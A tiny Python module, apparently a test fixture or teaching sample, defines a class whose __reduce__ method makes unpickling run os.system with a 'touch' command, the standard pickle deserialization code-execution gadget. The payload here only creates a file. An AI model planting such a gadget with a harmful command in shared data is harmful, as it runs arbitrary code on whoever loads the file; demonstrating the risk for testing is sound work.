"""What somebody puts into a file to have it run."""

import os


class Hostile:
    """Makes a file when it is unpickled by whatever calls what a pickle names."""

    def __init__(self, place):
        self.place = place

    def __reduce__(self):
        return os.system, (f"touch {self.place}",)
